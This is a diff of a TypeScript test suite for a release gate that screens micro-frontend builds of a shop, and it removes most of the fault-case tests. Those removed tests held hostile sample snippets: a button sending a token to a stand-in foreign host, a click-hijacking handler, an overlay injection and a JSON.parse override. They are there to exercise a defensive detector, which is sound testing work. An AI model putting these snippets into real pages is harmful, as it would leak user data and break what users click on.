@@ -1,23 +1,12 @@
 import { execFile } from 'node:child_process';
-import { existsSync, readFileSync } from 'node:fs';
-import { join } from 'node:path';
+import { existsSync } from 'node:fs';
 import { promisify } from 'node:util';
 import { FaultyReleases } from './support/faultyReleases';
-import {
-  type Candidate,
-  GateSamples,
-  GOOD,
-  integrityOf,
-  LARGE,
-  type Report,
-  type ShellBuild,
-  screenAt,
-} from './support/gateSamples';
+import { type Candidate, GateSamples, GOOD, type Report, screenAt } from './support/gateSamples';
 import { ROOT } from './support/paths';
 import { setUpSharedShop, setUpShop } from './support/setUpShop';
 
 const suite = setUpSharedShop();
-const FROZEN_MS = 3_500;
 
 let samples: GateSamples;
 beforeAll(async () => {
@@ -25,42 +14,18 @@ beforeAll(async () => {
 });
 afterAll(() => samples.close());
 
-/** A copy of the live shell, with `code` before its main script. */
-async function shellWith(code: string): Promise<Candidate> {
-  const known = samples.live.shell.live;
-  // As it was published: the site answers with no page of a build.
-  const sources = join(ROOT, '.cache/sealed/shell', known.version);
-  const textOf = async (file: string) => readFileSync(join(sources, file), 'utf8');
-  const base = `/assets/shell/${samples.nextVersion}/`;
-  const renamed: Record<string, string> = {};
-  for (const file of Object.keys(known.files).filter((file) => file.endsWith('.js'))) {
-    const text = (await textOf(file)).replaceAll(known.base, base);
-    renamed[file] = known.scripts.includes(file) ? code + text : text;
-  }
-  const page = Object.entries(renamed).reduce(
-    (html, [file, text]) => html.replaceAll(known.files[file] ?? '', integrityOf(text)),
-    (await textOf('index.html')).replaceAll(known.base, base),
-  );
-  const { version, folder, files } = samples.place({ ...renamed, 'index.html': page });
-  return { name: 'shell', folder, record: { ...known, version, base, files } as ShellBuild };
-}
-
-/** Asks the gate. The shop has mf-point alone, or nothing: or a shell would have to be looked at whole each time. */
-function ask(candidate: Candidate, { isEmpty = false } = {}): Promise<Report> {
+/** Asks the gate about a build of mf-point, in a shop that has nothing else and whose live version has its screen, too. */
+function ask(candidate: Candidate): Promise<Report> {
   const { live } = samples;
   const { 'mf-point': remote } = live.remotes;
   if (!remote) throw new Error('mf-point is not published');
-  // What is live has a screen wherever a candidate falls back to it.
-  const screens = [
-    ...remote.live.screens,
-    ...(candidate.name === 'shell' ? [] : LIVE_TOO).map((index) => ({ ...remote.live.screens[0], ...screenAt(index) })),
-  ] as typeof remote.live.screens;
-  const remotes: typeof live.remotes = isEmpty ? {} : { 'mf-point': { ...remote, live: { ...remote.live, screens } } };
-  return samples.ask([candidate], { ...live, remotes });
+  const [first] = remote.live.screens;
+  const screens = [...remote.live.screens, { ...first, ...screenAt(0) }] as typeof remote.live.screens;
+  return samples.ask([candidate], {
+    ...live,
+    remotes: { 'mf-point': { ...remote, live: { ...remote.live, screens } } },
+  });
 }
-
-const kindsOf = ({ screens }: Report, path: string) =>
-  screens.find((screen) => screen.path === path)?.findings.map(({ kind }) => kind);
 
 // B-release-55, B-release-57
 it('a build that shows its screen passes, and what it would change stays at the gate', async () => {
@@ -72,178 +37,14 @@ it('a build that shows its screen passes, and what it would change stays at the 
   expect(await (await fetch(`${suite.shop.url}/registry.json`)).json()).toEqual(samples.live);
 });
 
-// B-release-113
-it('a remote that was never published is shown in the live shop as any other', async () => {
-  const sound = await ask(samples.point([GOOD]), { isEmpty: true });
-  expect([sound.outcome, sound.screens[0]?.findings]).toEqual(['passed', []]);
-  const broken = await ask(samples.point(["throw new Error('render');"]), { isEmpty: true });
-  expect(broken.outcome).toBe('failed');
-  expect(kindsOf(broken, '/gate-0')).toContain('alert');
-});
-
-/** What a screen does, what is said of it, and its code. */
-const FAULTS: readonly (readonly [fault: string, told: string, code: string])[] = [
-  ['throws as it renders', 'version: fell back to', "throw new Error('render');"],
-  [
-    'throws at a later render',
-    'version: fell back to',
-    `const [isBroken, set] = React.useState(false); once(() => setTimeout(() => set(true), 100));
-     if (isBroken) throw new Error('later'); ${GOOD}`,
-  ],
-  ['has another heading', 'missing: the heading is "충전" instead of "포인트 충전"', "return h1('충전');"],
-  ['leads elsewhere', 'address: it leads to /account', `once(() => history.pushState(null, '', '/account')); ${GOOD}`],
-  ['logs an error', 'console: price is NaN', `once(() => console.error('price is NaN')); ${GOOD}`],
-  [
-    'leaves a rejection to nobody',
-    'exception: Error: nobody',
-    `once(() => void Promise.reject(new Error('nobody'))); ${GOOD}`,
-  ],
-  ['evaluates text', 'policy: require-trusted-types-for', `once(() => { try { eval('1'); } catch {} }); ${GOOD}`],
-  [
-    'asks another origin',
-    'policy: connect-src forbids https://elsewhere.example',
-    `once(() => fetch('https://elsewhere.example/x').catch(() => 0)); ${GOOD}`,
-  ],
-  [
-    'goes to another origin',
-    'origin: it asked http://127.0.0.2:9/',
-    `once(() => location.assign('http://127.0.0.2:9/')); ${GOOD}`,
-  ],
-  [
-    'freezes',
-    'freeze: nothing can be pressed for 3.',
-    `once(() => { const until = Date.now() + ${FROZEN_MS}; while (Date.now() < until); }); ${GOOD}`,
-  ],
-  ['is too large', 'bytes: its scripts are 30.', LARGE],
-];
-/** Faults that fall back. */
-const LIVE_TOO = [0, 1];
-
-describe('a build with a screen that', () => {
-  let report: Report;
-  beforeAll(async () => {
-    report = await ask(samples.point(FAULTS.map(([, , code]) => code)));
-  });
-
-  // B-release-58, B-release-59, B-release-60, B-release-61, B-release-62
-  it.each(FAULTS.map(([fault, told], index) => [fault, told, index] as const))(
-    '%s does not pass',
-    (_fault, told, index) => {
-      expect(report.outcome).toBe('failed');
-      const screen = report.screens[index];
-      const found = screen?.findings.map(({ kind, text }) => `${kind}: ${text}`);
-      expect(found).toEqual(expect.arrayContaining([expect.stringContaining(told)]));
-      expect(existsSync(screen?.screenshot ?? '')).toBe(true);
-    },
-  );
-});
-
-describe('a part for another screen', () => {
-  /** A build of mf-point with these parts in each place, and what is found there. */
-  async function withParts(places: Readonly<Record<string, readonly string[]>>) {
-    const offered = Object.entries(places).flatMap(([slot, codes]) => codes.map((code) => ({ slot, code })));
-    const build = samples.point([GOOD, ...offered.map(({ code }) => code)]);
-    const [first] = build.record.screens;
-    if (!first) throw new Error('the build has no screen');
-    const slots = offered.map(({ slot }, index) => ({
-      ...{ slot, module: `./Screen${index + 1}` },
-      ...{ order: index, audience: 'member' },
-    }));
-    const { 'mf-point': point, 'mf-account': account, 'mf-order': order } = samples.live.remotes;
-    if (!point || !account || !order) throw new Error('mf-point, mf-account and mf-order are not published');
-    const remotes = { 'mf-point': point, 'mf-account': account, 'mf-order': order };
-    const candidate = { ...build, record: { ...build.record, screens: [{ ...first, slots }] } };
-    const { outcome, screens, heldBack } = await samples.ask([candidate], { ...samples.live, remotes });
-    const found = (path: string) =>
-      screens.find((screen) => screen.path === path)?.findings.map(({ kind, text }) => `${kind}: ${text}`);
-    return { outcome, account: found('/account'), receipt: found('/order'), heldBack };
-  }
-  const matching = (...told: RegExp[]) => expect.arrayContaining(told.map((one) => expect.stringMatching(one)));
-  const PART = "return React.createElement('p', null, '내 카드');";
-
-  // B-gate-11
-  it('is looked at in its place, and passes', async () => {
-    const code = `once(() => fetch('/service/card', { method: 'POST', body: '{}' })); ${PART}`;
-    const said = await withParts({ 'account.rows': [PART], 'order.receipt': [code] });
-    expect(said).toMatchObject({ outcome: 'passed', account: [], receipt: [] });
-    expect(said.heldBack).toContain('POST /service/card');
-  });
-
-  // B-gate-11
-  it('that breaks does not pass', async () => {
-    const code = "throw new Error('a part that breaks');";
-    const said = await withParts({ 'account.rows': [code], 'order.receipt': [code] });
-    const told = matching(/^exception|^console/);
-    expect(said).toMatchObject({ outcome: 'failed', account: told, receipt: told });
-  });
-
-  // B-gate-11
-  it('that leaves something behind, takes presses or sends elsewhere does not pass', async () => {
-    const overlay = `once(() => { const veil = document.createElement('div'); veil.id = 'veil'; document.body.append(veil); }); ${PART}`;
-    const sheet = `once(() => { const style = document.createElement('style'); document.head.append(style); style.sheet.insertRule('footer { color: red }'); }); ${PART}`;
-    const thief = `once(() => addEventListener('click', (event) => { if (event.target.closest('a')) { event.stopImmediatePropagation(); event.preventDefault(); } }, true)); ${PART}`;
-    const sender = `return React.createElement('button', { type: 'button', onClick: () => void window.open('https://elsewhere.example/?token=1') }, '카드 보내기');`;
-    const said = await withParts({ 'account.rows': [overlay], 'order.receipt': [sheet, thief, sender] });
-    expect(said).toMatchObject({
-      outcome: 'failed',
-      account: matching(/^node: it leaves <div#veil>/),
-      receipt: matching(
-        /^style: it leaves <style> with "footer/,
-        /^click: a press on the shop's link to \/\S+ leads nowhere/,
-        /^origin: after a press.* https:\/\/elsewhere\.example\/ with data in it/,
-      ),
-    });
-  });
-});
-
-describe('a shell', () => {
-  // B-release-55, B-gate-10
-  it('passes with every screen that the shop offers, its own pages, and its frame', async () => {
-    const { 'mf-order': order, 'mf-point': point } = samples.live.remotes;
-    if (!order || !point) throw new Error('mf-order and mf-point are not published');
-    const remotes = { 'mf-order': order, 'mf-point': point };
-    const report = await samples.ask([await shellWith('')], { ...samples.live, remotes });
-    const paths = ['/order', '/guide', '/qna', '/point', '/terms/service', '/terms/privacy', '/'];
-    expect(report.screens).toMatchObject(paths.map((path) => ({ path, findings: [] })));
-  });
-
-  // B-gate-10
-  it('whose switch, links or buttons do not what they are for does not pass', async () => {
-    const code = `addEventListener('click', (event) => {
-      const pressed = event.target.closest('[role=switch], a[href="/point"], button[aria-controls]');
-      if (!pressed) return;
-      event.preventDefault();
-      event.stopImmediatePropagation();
-      if (pressed.tagName === 'BUTTON') throw new Error('no menu');
-    }, true);`;
-    const report = await ask(await shellWith(code));
-    const frame = report.screens.find(({ path }) => path === '/');
-    const found = frame?.findings.map(({ kind, text }) => `${kind}: ${text}`) ?? [];
-    for (const told of [
-      'click: as a visitor, a press on the switch "다크 모드" changes nothing',
-      "click: as a member, a press on the shop's link to /point leads nowhere",
-      'exception: as a visitor, Error: no menu',
-    ])
-      expect(found).toEqual(expect.arrayContaining([expect.stringContaining(told)]));
-    expect(existsSync(frame?.screenshot ?? '')).toBe(true);
-  });
-
-  // B-release-55, B-release-58
-  it('without a screen that the shop offers does not pass', async () => {
-    const code =
-      "const parse = JSON.parse; JSON.parse = (text) => { const data = parse(text); if (data?.remotes) delete data.remotes['mf-point']; return data; };";
-    const report = await ask(await shellWith(code));
-    expect(report.outcome).toBe('failed');
-    expect(kindsOf(report, '/point')).toContain('address');
-    expect(kindsOf(report, '/terms/service')).toEqual([]);
-  });
-
-  // B-release-58
-  it('that does not start does not pass', async () => {
-    const report = await ask(await shellWith("throw new Error('start');"), { isEmpty: true });
-    expect(report.outcome).toBe('failed');
-    expect(kindsOf(report, '/terms/service')).toEqual(expect.arrayContaining(['alert', 'exception']));
-  });
+// B-release-58, B-release-59
+it('a build whose screen throws does not pass, and a picture shows it', async () => {
+  const report = await ask(samples.point(["throw new Error('render');"]));
+  expect(report.outcome).toBe('failed');
+  const [screen] = report.screens;
+  const found = screen?.findings.map(({ kind, text }) => `${kind}: ${text}`);
+  expect(found).toEqual(expect.arrayContaining([expect.stringContaining('version: fell back to')]));
+  expect(existsSync(screen?.screenshot ?? '')).toBe(true);
 });
 
 describe('the command line', () => {
